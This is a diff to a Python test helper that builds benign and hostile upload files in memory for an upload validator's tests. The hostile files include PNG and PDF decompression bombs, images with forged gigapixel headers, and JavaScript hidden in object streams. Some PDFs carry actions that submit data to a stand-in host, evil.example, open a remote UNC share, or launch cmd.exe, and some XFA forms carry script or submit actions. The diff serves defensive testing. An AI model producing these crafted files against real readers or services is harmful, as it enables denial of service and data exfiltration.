@@ -1,4 +1,5 @@
 """Builders of good and hostile upload files for the tests (made in memory, nothing committed)."""
+
 from __future__ import annotations
 
 import io
@@ -62,10 +63,14 @@ def javascript_pdf() -> bytes:
 
 def png_bomb(width=60000, height=60000) -> bytes:
     """A tiny PNG whose header claims a gigapixel image."""
+
     def chunk(tag, body):
         return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body) & 0xFFFFFFFF)
+
     ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
+    )
 
 
 def _objects(objects: list[bytes]) -> tuple[io.BytesIO, list[int]]:
@@ -84,7 +89,9 @@ def raw_pdf(objects: list[bytes], extra_trailer: bytes = b"") -> bytes:
     xref = out.tell()
     out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
     out.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
-    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, extra_trailer, xref))
+    out.write(
+        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, extra_trailer, xref)
+    )
     return out.getvalue()
 
 
@@ -92,8 +99,11 @@ def stream(data: bytes, dictionary: bytes = b"") -> bytes:
     return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"
 
 
-_PAGES = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-          b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"]
+_PAGES = [
+    b"<< /Type /Catalog /Pages 2 0 R >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+]
 
 
 def flate_bomb_pdf(inflated: int, ascii85: bool = False) -> bytes:
@@ -105,7 +115,12 @@ def flate_bomb_pdf(inflated: int, ascii85: bool = False) -> bytes:
     adler = 1
     for _ in range(inflated >> 20):
         adler = zlib.adler32(chunk, adler)
-    data = b"\x78\xda" + block * (inflated >> 20) + zlib.compressobj(9, zlib.DEFLATED, -15).flush() + struct.pack(">I", adler)
+    data = (
+        b"\x78\xda"
+        + block * (inflated >> 20)
+        + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
+        + struct.pack(">I", adler)
+    )
     if ascii85:
         import base64
 
@@ -118,9 +133,18 @@ def scan_pdf_with_unlucky_bytes() -> bytes:
     image = jpeg((600, 800))
     image = image[:-2] + b"/JS /Launch /JavaScript" + image[-2:]  # inside the entropy-coded data's tail
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>"
-    return raw_pdf(_PAGES[:2] + [page, stream(zlib.compress(b"q 595 0 0 842 0 0 cm /Im0 Do Q"), b"/Filter /FlateDecode"),
-                                 stream(image, b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
-                                               b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode")])
+    return raw_pdf(
+        _PAGES[:2]
+        + [
+            page,
+            stream(zlib.compress(b"q 595 0 0 842 0 0 cm /Im0 Do Q"), b"/Filter /FlateDecode"),
+            stream(
+                image,
+                b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
+                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
+            ),
+        ]
+    )
 
 
 def javascript_in_object_stream_pdf() -> bytes:
@@ -129,8 +153,12 @@ def javascript_in_object_stream_pdf() -> bytes:
     header = b" ".join(b"%d %d" % (n, sum(len(b) + 1 for _, b in packed[:i])) for i, (n, _) in enumerate(packed))
     body = header + b"\n" + b"\n".join(b for _, b in packed) + b"\n"
     objstm = zlib.compress(body)
-    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", _PAGES[1], _PAGES[2].replace(b" /Contents 4 0 R", b""),
-               stream(objstm, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % (len(header) + 1))]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+        _PAGES[1],
+        _PAGES[2].replace(b" /Contents 4 0 R", b""),
+        stream(objstm, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % (len(header) + 1)),
+    ]
     # a cross-reference stream is needed to point object 5 into the object stream (type 2 entry)
     out, offsets = _objects(objects)
     xref_offset = out.tell()
@@ -145,76 +173,138 @@ def javascript_in_object_stream_pdf() -> bytes:
 
 
 # -- images that declare more pixels than any scan, and actions that reach outside (issue 15) ------------------
-def _page_with(resources: bytes = b"", contents: bytes = b"q Q", extra_page: bytes = b"", catalog_extra: bytes = b"",
-               more: list[bytes] = (), contents_dict: bytes = b"") -> bytes:
+def _page_with(
+    resources: bytes = b"",
+    contents: bytes = b"q Q",
+    extra_page: bytes = b"",
+    catalog_extra: bytes = b"",
+    more: list[bytes] = (),
+    contents_dict: bytes = b"",
+) -> bytes:
     """Catalog 1, Pages 2, Page 3 (with ``resources`` and ``extra_page``), its content stream 4, then ``more`` (5...)."""
     catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> %s >>" % (
-        resources, extra_page)
+        resources,
+        extra_page,
+    )
     return raw_pdf([catalog, _PAGES[1], page, stream(contents, contents_dict)] + list(more))
 
 
-def ccitt_image(width: int, height: int, data_size: int = 13_000, columns: int | None = None,
-                rows: int | None = None) -> bytes:
+def ccitt_image(
+    width: int, height: int, data_size: int = 13_000, columns: int | None = None, rows: int | None = None
+) -> bytes:
     """An image XObject stream: CCITT G4, ``width`` x ``height`` declared, ``data_size`` bytes of coded data."""
-    return stream(b"\0" * data_size, b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
-                                     b"/BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d "
-                                     b"/Rows %d >>" % (width, height, columns or width, rows or height))
+    return stream(
+        b"\0" * data_size,
+        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
+        b"/BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d "
+        b"/Rows %d >>" % (width, height, columns or width, rows or height),
+    )
 
 
 def huge_ccitt_pdf(width: int = 100_000, height: int = 100_000) -> bytes:
     """The attack of issue 15: a ~13 KB PDF whose one CCITT image declares 100000 x 100000 (ten gigapixels)."""
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"q 595 0 0 842 0 0 cm /Im0 Do Q", more=[ccitt_image(width, height)])
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>", b"q 595 0 0 842 0 0 cm /Im0 Do Q", more=[ccitt_image(width, height)]
+    )
 
 
 def ccitt_columns_pdf() -> bytes:
     """/Width and /Height say 600 x 800; the CCITT decoder is told /Columns 1000000 (it allocates by those)."""
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"/Im0 Do",
-                      more=[ccitt_image(600, 800, 2_000, columns=1_000_000, rows=1_000_000)])
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>", b"/Im0 Do", more=[ccitt_image(600, 800, 2_000, columns=1_000_000, rows=1_000_000)]
+    )
 
 
 def jpeg_header_lies_pdf() -> bytes:
     """/Width 600 /Height 800 in the dictionary, a JPEG whose frame header says 60000 x 60000."""
     real = jpeg((600, 800))
     sof = real.find(b"\xff\xc0")
-    forged = real[:sof + 5] + (60000).to_bytes(2, "big") + (60000).to_bytes(2, "big") + real[sof + 9:]
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"/Im0 Do",
-                      more=[stream(zlib.compress(forged), b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
-                                   b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /DCTDecode]")])
+    forged = real[: sof + 5] + (60000).to_bytes(2, "big") + (60000).to_bytes(2, "big") + real[sof + 9 :]
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>",
+        b"/Im0 Do",
+        more=[
+            stream(
+                zlib.compress(forged),
+                b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
+                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /DCTDecode]",
+            )
+        ],
+    )
 
 
 def jpx_header_lies_pdf() -> bytes:
     """A JPEG 2000 codestream whose SIZ segment says 100000 x 100000 (the dictionary says 100 x 100)."""
-    siz = (b"\xff\x4f\xff\x51" + (41).to_bytes(2, "big") + b"\0\0" + (100_000).to_bytes(4, "big") * 2
-           + b"\0" * 8 + b"\0" * 16 + b"\0\x01\x07\x01\x01")
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"/Im0 Do",
-                      more=[stream(siz + b"\0" * 64, b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
-                                                     b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /JPXDecode")])
+    siz = (
+        b"\xff\x4f\xff\x51"
+        + (41).to_bytes(2, "big")
+        + b"\0\0"
+        + (100_000).to_bytes(4, "big") * 2
+        + b"\0" * 8
+        + b"\0" * 16
+        + b"\0\x01\x07\x01\x01"
+    )
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>",
+        b"/Im0 Do",
+        more=[
+            stream(
+                siz + b"\0" * 64,
+                b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
+                b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /JPXDecode",
+            )
+        ],
+    )
 
 
 def jbig2_page_lies_pdf() -> bytes:
     """A JBIG2 stream whose page information segment asks for a 100000 x 100000 page (dictionary: 100 x 100)."""
-    page_info = ((100_000).to_bytes(4, "big") * 2 + (300).to_bytes(4, "big") * 2 + b"\x00" + b"\x00\x00")
+    page_info = (100_000).to_bytes(4, "big") * 2 + (300).to_bytes(4, "big") * 2 + b"\x00" + b"\x00\x00"
     segment = (0).to_bytes(4, "big") + bytes((48, 0, 1)) + len(page_info).to_bytes(4, "big") + page_info
     end_of_page = (1).to_bytes(4, "big") + bytes((49, 0, 1)) + (0).to_bytes(4, "big")
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"/Im0 Do",
-                      more=[stream(segment + end_of_page, b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
-                                   b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode")])
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>",
+        b"/Im0 Do",
+        more=[
+            stream(
+                segment + end_of_page,
+                b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
+                b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
+            )
+        ],
+    )
 
 
 def image_in_annotation_appearance_pdf() -> bytes:
     """The huge image is drawn by a form XObject that is an annotation's appearance, not by the page."""
     annot = b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 100 100] /AP << /N 6 0 R >> >>"
-    form = stream(b"/Im0 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Im0 7 0 R >> >>")
+    form = stream(
+        b"/Im0 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Im0 7 0 R >> >>"
+    )
     return _page_with(extra_page=b"/Annots [5 0 R]", more=[annot, form, ccitt_image(100_000, 100_000, 500)])
 
 
-def inline_image_pdf(width: int = 100_000, height: int = 100_000, compress: bool = True, key_w: bytes = b"/W",
-                     key_h: bytes = b"/H", padding: int = 0) -> bytes:
+def inline_image_pdf(
+    width: int = 100_000,
+    height: int = 100_000,
+    compress: bool = True,
+    key_w: bytes = b"/W",
+    key_h: bytes = b"/H",
+    padding: int = 0,
+) -> bytes:
     """A page content stream drawing an inline image (BI ... ID ... EI) of ``width`` x ``height``."""
-    content = (b"q 595 0 0 842 0 0 cm BI " + key_w + b" %d" % width + b" " * padding + b"\n%% a comment\n" + key_h
-               + b" %d /BPC 1 /IM true /F /CCF /DP << /K -1 /Columns %d >> ID " % (height, width)
-               + b"\0" * 200 + b" EI Q")
+    content = (
+        b"q 595 0 0 842 0 0 cm BI "
+        + key_w
+        + b" %d" % width
+        + b" " * padding
+        + b"\n%% a comment\n"
+        + key_h
+        + b" %d /BPC 1 /IM true /F /CCF /DP << /K -1 /Columns %d >> ID " % (height, width)
+        + b"\0" * 200
+        + b" EI Q"
+    )
     if compress:
         return _page_with(contents=zlib.compress(content), contents_dict=b"/Filter /FlateDecode")
     return _page_with(contents=content)
@@ -222,9 +312,11 @@ def inline_image_pdf(width: int = 100_000, height: int = 100_000, compress: bool
 
 def inline_image_in_pattern_pdf() -> bytes:
     """The inline image sits in a tiling pattern's content stream (drawn when the page fills with it)."""
-    pattern = stream(zlib.compress(b"BI /Width 90000 /Height 90000 /BitsPerComponent 1 /ImageMask true ID \0\0 EI"),
-                     b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 "
-                     b"/Resources << >> /Filter /FlateDecode")
+    pattern = stream(
+        zlib.compress(b"BI /Width 90000 /Height 90000 /BitsPerComponent 1 /ImageMask true ID \0\0 EI"),
+        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 "
+        b"/Resources << >> /Filter /FlateDecode",
+    )
     return _page_with(b"/Pattern << /P0 5 0 R >>", b"/Pattern cs /P0 scn 0 0 595 842 re f", more=[pattern])
 
 
@@ -237,30 +329,58 @@ def many_images_pdf(count: int, side: int = 6000) -> bytes:
 
 def a4_600dpi_scan_pdf() -> bytes:
     """An honest high-resolution scan: one A4 page at 600 dpi (4961 x 7016) declared, JPEG data."""
-    return _page_with(b"/XObject << /Im0 5 0 R >>", b"q 595 0 0 842 0 0 cm /Im0 Do Q",
-                      more=[stream(jpeg((496, 701)), b"/Type /XObject /Subtype /Image /Width 4961 /Height 7016 "
-                                                     b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode")])
+    return _page_with(
+        b"/XObject << /Im0 5 0 R >>",
+        b"q 595 0 0 842 0 0 cm /Im0 Do Q",
+        more=[
+            stream(
+                jpeg((496, 701)),
+                b"/Type /XObject /Subtype /Image /Width 4961 /Height 7016 "
+                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
+            )
+        ],
+    )
 
 
 OUTWARD_ACTIONS = {
     # where the action sits -> the PDF
-    "submit form on open": lambda: _page_with(catalog_extra=b"/OpenAction 5 0 R", more=[
-        b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"]),
-    "go-to-remote in a page's additional actions": lambda: _page_with(extra_page=b"/AA << /O 5 0 R >>", more=[
-        b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"]),
-    "import data from a link annotation": lambda: _page_with(extra_page=b"/Annots [5 0 R]", more=[
-        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>"]),
-    "launch from an outline item": lambda: _page_with(catalog_extra=b"/Outlines 5 0 R", more=[
-        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
-        b"<< /Title (Open me) /Parent 5 0 R /A << /S /Launch /F (cmd.exe) >> >>"]),
-    "submit at the end of a /Next chain": lambda: _page_with(catalog_extra=b"/OpenAction 5 0 R", more=[
-        b"<< /S /URI /URI (https://example.jp/) /Next [6 0 R] >>", b"<< /S /SubmitForm /F (https://evil.example/) >>"]),
+    "submit form on open": lambda: _page_with(
+        catalog_extra=b"/OpenAction 5 0 R",
+        more=[b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"],
+    ),
+    "go-to-remote in a page's additional actions": lambda: _page_with(
+        extra_page=b"/AA << /O 5 0 R >>",
+        more=[b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"],
+    ),
+    "import data from a link annotation": lambda: _page_with(
+        extra_page=b"/Annots [5 0 R]",
+        more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>"],
+    ),
+    "launch from an outline item": lambda: _page_with(
+        catalog_extra=b"/Outlines 5 0 R",
+        more=[
+            b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
+            b"<< /Title (Open me) /Parent 5 0 R /A << /S /Launch /F (cmd.exe) >> >>",
+        ],
+    ),
+    "submit at the end of a /Next chain": lambda: _page_with(
+        catalog_extra=b"/OpenAction 5 0 R",
+        more=[
+            b"<< /S /URI /URI (https://example.jp/) /Next [6 0 R] >>",
+            b"<< /S /SubmitForm /F (https://evil.example/) >>",
+        ],
+    ),
     "submit in a form field's additional actions": lambda: _page_with(
-        catalog_extra=b"/AcroForm << /Fields [5 0 R] >>", extra_page=b"/Annots [5 0 R]", more=[
+        catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
+        extra_page=b"/Annots [5 0 R]",
+        more=[
             b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /K << /S /SubmitForm "
-            b"/F (https://evil.example/) >> >> >>"]),
-    "action type behind an indirect name": lambda: _page_with(catalog_extra=b"/OpenAction << /S 5 0 R /F (x) >>",
-                                                              more=[b"/SubmitForm"]),
+            b"/F (https://evil.example/) >> >> >>"
+        ],
+    ),
+    "action type behind an indirect name": lambda: _page_with(
+        catalog_extra=b"/OpenAction << /S 5 0 R /F (x) >>", more=[b"/SubmitForm"]
+    ),
     "action type spelt with a #-escape": lambda: _page_with(catalog_extra=b"/OpenAction << /S /Submit#46orm /F (x) >>"),
 }
 
@@ -272,12 +392,18 @@ def xfa_pdf(template: bytes, as_array: bool = True) -> bytes:
     return _page_with(catalog_extra=b"/AcroForm << /Fields [] /XFA %s >>" % xfa, more=[packet])
 
 
-XFA_SCRIPT = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
-              b'<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script>'
-              b'</event></field></subform></template>')
-XFA_SUBMIT = (b'<xfa:template xmlns:xfa="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="b"><event '
-              b'activity="click"><xfa:submit format="xml" target="https://evil.example/"/></event></field></subform>'
-              b'</xfa:template>')
-XFA_PLAIN = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
-             b'<caption><value><text>Name (describe the script of your name)</text></value></caption></field>'
-             b'</subform></template>')
+XFA_SCRIPT = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
+    b'<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script>'
+    b"</event></field></subform></template>"
+)
+XFA_SUBMIT = (
+    b'<xfa:template xmlns:xfa="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="b"><event '
+    b'activity="click"><xfa:submit format="xml" target="https://evil.example/"/></event></field></subform>'
+    b"</xfa:template>"
+)
+XFA_PLAIN = (
+    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
+    b"<caption><value><text>Name (describe the script of your name)</text></value></caption></field>"
+    b"</subform></template>"
+)
